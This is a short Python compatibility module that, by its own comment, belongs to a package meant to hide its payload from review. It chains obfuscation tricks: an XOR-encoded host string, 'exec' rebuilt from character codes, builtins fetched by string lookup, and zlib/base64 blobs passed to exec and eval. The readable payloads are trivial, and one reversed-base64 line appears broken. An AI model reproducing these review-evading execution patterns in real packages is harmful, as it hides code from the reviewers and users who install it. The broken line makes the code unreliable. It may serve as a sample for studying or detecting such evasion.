# -*- coding: utf-8 -*-
# _compat.py of a package that hides its payload from review
import base64
import builtins
import zlib

_k = 0x5A
_host = "".join(chr(c ^ _k) for c in b"2..*)`uu")
_name = "".join(map(chr, [101, 120, 101, 99]))
_run = getattr(builtins, _name)
_blob = zlib.decompress(base64.b64decode("eJwrKM3LLLFVSs7PS8ssAgAjjgTc"))
_run(_blob)
getattr(builtins, "ev" + "al")("__import__('os').getcwd()")
globals()["exec"]("pass")
_ = lambda __: __import__("zlib").decompress(__import__("base64").b64decode(__[::-1]))
exec((_)(b"=Mn3gT"))
exec(base64.b64decode(b"cHJpbnQoJ2hpJyk=").decode())
